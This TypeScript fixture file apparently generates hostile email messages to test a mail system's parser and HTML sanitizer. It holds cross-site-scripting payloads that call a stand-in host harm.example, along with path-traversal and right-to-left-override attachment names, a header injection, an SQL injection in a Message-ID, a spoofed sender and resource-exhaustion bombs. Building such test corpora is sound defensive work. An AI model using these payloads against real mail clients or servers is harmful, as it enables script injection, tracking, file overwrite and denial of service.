/** A message made to do harm, and what it tries. */
export type HostileMessage = { readonly name: string; readonly raw: Uint8Array };

const HEAD = [
  "From: Nobody Good <nobody@harm.example>",
  "To: office@ottermoor.example",
  "Date: Tue, 24 Nov 2026 08:30:00 +0000",
  "MIME-Version: 1.0",
];
const MEGABYTE = 1024 * 1024;

const bytes = (text: string) => Buffer.from(text.replace(/\r?\n/g, "\r\n"), "latin1");
const utf8 = (text: string) => Buffer.from(text.replace(/\r?\n/g, "\r\n"));

function message(name: string, fields: readonly string[], body: string): HostileMessage {
  const subject = fields.some((field) => /^subject:/i.test(field)) ? [] : [`Subject: ${name}`];
  const id = fields.some((field) => /^message-id:/i.test(field))
    ? []
    : [`Message-ID: <${name.replace(/\W/g, "-")}@harm.example>`];
  return { name, raw: utf8([...HEAD, ...subject, ...id, ...fields, "", body].join("\n")) };
}

const html = (name: string, body: string) => message(name, ["Content-Type: text/html; charset=utf-8"], body);
const plain = (name: string, body: string) => message(name, ["Content-Type: text/plain; charset=utf-8"], body);

// Each would call home or open a dialog if anything of it ran.
const CALL = "fetch('//harm.example/ran');alert(1)";
const IN_HTML: Readonly<Record<string, string>> = {
  "script element": `<script>${CALL}</script>`,
  "script from elsewhere": '<script src="http://harm.example/x.js"></script>',
  "script in broken tags": `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  "handler on an image": `<img src="x" onerror="${CALL}">`,
  "handler on the body": `<body onload="${CALL}">x</body>`,
  "handler with a line break": `<img src=x\nonerror\n=\n"${CALL}">`,
  "handler behind a slash": `<svg/onload="${CALL}">`,
  "script link": `<a href="javascript:${CALL}">Click</a>`,
  "script link with entities": `<a href="&#106;avascript:${CALL}">Click</a>`,
  "script link with a tab": `<a href="java&#9;script:${CALL}">Click</a>`,
  "data link": `<a href="data:text/html,<script>${CALL}</script>">Click</a>`,
  frame: '<iframe src="http://harm.example/frame"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "object and embed": '<object data="http://harm.example/o"></object><embed src="http://harm.example/e">',
  form: '<form action="http://harm.example/f"><input name=password autofocus onfocus="alert(1)"><button>Go</button></form>',
  refresh: '<meta http-equiv="refresh" content="0;url=http://harm.example/m">',
  base: '<base href="http://harm.example/"><img src="p.png"><a href="q">q</a>',
  "style sheet":
    '<link rel="stylesheet" href="http://harm.example/s.css"><style>@import "http://harm.example/i.css";body{background:url(http://harm.example/b.png)}</style>',
  "style attribute that fetches":
    '<div style="background:url(http://harm.example/a.png)">x</div><div style="background-image:\\75rl(http://harm.example/c.png)">x</div>',
  "style that covers the page":
    '<div style="position:fixed;inset:0;z-index:9999;background:red">You are signed out</div>',
  "expression in a style": `<div style="width:expression(${CALL})">x</div>`,
  "remote image": '<img src="http://harm.example/pixel.png"><img srcset="http://harm.example/2x.png 2x">',
  "remote background":
    '<table background="http://harm.example/t.png"><tr><td background="http://harm.example/d.png">x</td></tr></table>',
  "remote media":
    '<video src="http://harm.example/v" autoplay poster="http://harm.example/p"></video><audio src="http://harm.example/a" autoplay></audio>',
  "vector picture": `<svg><script>${CALL}</script><image href="http://harm.example/i"/><use href="http://harm.example/u#x"/></svg>`,
  "vector animation": `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text>x</text></a></svg>`,
  mathematics: `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}"></style></mglyph></table></mtext></math>`,
  "hidden in noscript": `<noscript><p title="</noscript><img src=x onerror='${CALL}'>">`,
  "hidden in a comment": `<!--><img src=x onerror="${CALL}">-->`,
  "hidden in a text field": `<textarea><img src=x onerror="${CALL}"></textarea><xmp><script>${CALL}</script></xmp>`,
  "hidden in a template": `<template><img src=x onerror="${CALL}"></template>`,
  "image that is a document": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>">`,
  "link to prefetch":
    '<link rel="prefetch" href="http://harm.example/pre"><link rel="dns-prefetch" href="//harm.example">',
  "target of the opener": `<a href="http://harm.example/o" target="_top" ping="http://harm.example/ping">Top</a>`,
};

/** The bodies of HTML mail that would do something in a browser. */
export function hostileHtml(): { name: string; body: string }[] {
  return Object.entries(IN_HTML).map(([name, body]) => ({ name, body }));
}

/** Messages that try what has been tried on mail systems: 60 and more, each by its name. */
export function hostileMail(): HostileMessage[] {
  return [...Object.entries(IN_HTML).map(([name, body]) => html(name, body)), ...structures(), ...names(), ...bombs()];
}

function nested(depth: number): string {
  const opened = Array.from(
    { length: depth },
    (_, at) => `--b${at}\nContent-Type: multipart/mixed; boundary=b${at + 1}\n`,
  );
  return `Content-Type: multipart/mixed; boundary=b0\n\n${opened.join("\n")}\n--b${depth}\nContent-Type: text/plain\n\ndeep\n`;
}

function structures(): HostileMessage[] {
  const forwarded = Array.from({ length: 500 }, () => "Content-Type: message/rfc822\n").join("\n");
  return [
    {
      name: "parts nested 5,000 deep",
      raw: bytes(`${HEAD.join("\n")}\nSubject: deep\nMessage-ID: <deep@harm.example>\n${nested(5_000)}`),
    },
    {
      name: "messages nested 500 deep",
      raw: bytes(`${HEAD.join("\n")}\nSubject: russian\nMessage-ID: <doll@harm.example>\n${forwarded}\nend`),
    },
    message(
      "50,000 parts",
      ["Content-Type: multipart/mixed; boundary=p"],
      `${"--p\nContent-Type: text/plain\n\nx\n".repeat(50_000)}--p--`,
    ),
    message(
      "boundary of its own boundary",
      ["Content-Type: multipart/mixed; boundary=s"],
      "--s\nContent-Type: multipart/mixed; boundary=s\n\n--s\n\nx\n--s--",
    ),
    message("empty boundary", ['Content-Type: multipart/mixed; boundary=""'], "--\n\nx\n----"),
    message(
      "boundary of 10,000 characters",
      [`Content-Type: multipart/mixed; boundary="${"b".repeat(10_000)}"`],
      `--${"b".repeat(10_000)}\n\nx`,
    ),
    message("content type of nonsense", ['Content-Type: ;;;=;/\\"(((('], "x"),
    message("two content types", ["Content-Type: text/plain", "Content-Type: text/html"], `<script>${CALL}</script>`),
    message("transfer encoding unknown", ["Content-Transfer-Encoding: x-uuencode"], "begin 644 x\nM\nend"),
    message(
      "calendar that never ends",
      ["Content-Type: text/calendar; method=REQUEST"],
      `BEGIN:VCALENDAR\n${"BEGIN:VEVENT\n".repeat(50_000)}`,
    ),
    message(
      "report of 20,000 recipients",
      ["Content-Type: multipart/report; report-type=delivery-status; boundary=r"],
      `--r\nContent-Type: message/delivery-status\n\n${"Final-Recipient: rfc822; a@b.example\nAction: failed\nStatus: 5.1.1\n\n".repeat(20_000)}--r--`,
    ),
  ];
}

function names(): HostileMessage[] {
  const attachment = (fileName: string) =>
    `--n\nContent-Type: text/plain\n\nsee\n--n\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename="${fileName}"\n\nx\n--n--`;
  const mixed = ["Content-Type: multipart/mixed; boundary=n"];
  return [
    message("name that climbs", mixed, attachment("../../../../etc/cron.d/x")),
    message("name of a device", mixed, attachment("CON.txt")),
    message("name with a drive", mixed, attachment("C:\\\\windows\\\\system32\\\\x.dll")),
    message("name of 100,000 characters", mixed, attachment(`${"n".repeat(100_000)}.txt`)),
    message("name turned around", mixed, attachment("invoice\u202efdp.exe")),
    message("name with line breaks", mixed, attachment("a=0D=0ASet-Cookie: x=1\t.txt")),
    message("sender turned around", ["From: =?utf-8?B?4oCuZWxpcHV0?= <office@ottermoor.example>"], "x"),
    message("sender as one of us", ["From: Ines Varga <office@ottermoor.example>"], "Please pay this."),
    message(
      "ids that are forged",
      [
        "In-Reply-To: <../../x> <%00> <'; drop table message; -->",
        "Message-ID: <'; drop table message; --@harm.example>",
      ],
      "x",
    ),
    message("100,000 references", [`References: ${"<a@b.example> ".repeat(100_000)}`], "x"),
    message("subject of 500,000 characters", [`Subject: ${"long ".repeat(100_000)}`], "x"),
    message("100,000 encoded words", [`Subject: ${"=?utf-8?Q?a?= ".repeat(60_000)}`], "x"),
    message(
      "50,000 recipients",
      [`Cc: ${Array.from({ length: 25_000 }, (_, at) => `p${at}@harm.example`).join(",\n ")}`],
      "x",
    ),
    message("address in 20,000 brackets", [`Reply-To: ${"<".repeat(20_000)}a@b.example${">".repeat(20_000)}`], "x"),
    message("comment in 20,000 brackets", [`Reply-To: ${"(".repeat(20_000)} a@b.example`], "x"),
  ];
}

function bombs(): HostileMessage[] {
  return [
    message(
      "100,000 header fields",
      Array.from({ length: 100_000 }, (_, at) => `X-${at}: y`),
      "x",
    ),
    message("header field of 5 MB", [`X-Long: ${"z".repeat(5 * MEGABYTE)}`], "x"),
    message("header folded 100,000 times", [`X-Folded: ${"a\n ".repeat(100_000)}a`], "x"),
    plain("a line of 20 MB", "x".repeat(20 * MEGABYTE)),
    plain("a million lines", "> x\n".repeat(1_000_000)),
    plain("a million attributions", "On 1.1.2026 10:00 a wrote:\n".repeat(100_000)),
    plain("attribution without end", `On ${"a wrote ".repeat(200_000)}`),
    plain("rules without end", `${"_".repeat(40)}\nx\n`.repeat(50_000)),
    plain("blanks without end", `${" ".repeat(500_000)}x`),
    plain("addresses without end", "a@b.example,".repeat(200_000)),
    {
      name: "NUL bytes",
      raw: Buffer.concat([
        bytes(`${HEAD.join("\n")}\nSubject: a\u0000b\nMessage-ID: <nul@harm.example>\n\n`),
        Buffer.alloc(100_000),
      ]),
    },
    {
      name: "random bytes",
      raw: Buffer.from(Array.from({ length: 200_000 }, (_, at) => (at * 7919 + (at >> 3)) % 256)),
    },
    { name: "nothing at all", raw: Buffer.alloc(0) },
    { name: "only line breaks", raw: Buffer.from("\r\n".repeat(100_000)) },
    html("elements nested 200,000 deep", "<div>".repeat(200_000)),
    html("tables nested 50,000 deep", "<table><tr><td>".repeat(50_000)),
    html("200,000 unclosed tags", "<a href='".repeat(200_000)),
    html("200,000 script starts", "<script ".repeat(200_000)),
    html("an attribute of 5 MB", `<p title="${"t".repeat(5 * MEGABYTE)}">x</p>`),
    html("100,000 attributes", `<p ${Array.from({ length: 100_000 }, (_, at) => `a${at}=1`).join(" ")}>x</p>`),
    html("a million entities", "&lt;&amp;&#x41;".repeat(300_000)),
    html("styles without end", `<p style="${"color:red;".repeat(100_000)}">x</p>`),
    message("base64 that is none", ["Content-Transfer-Encoding: base64"], "%%%%".repeat(300_000)),
    message("quoted-printable that is none", ["Content-Transfer-Encoding: quoted-printable"], "=".repeat(1_000_000)),
  ];
}
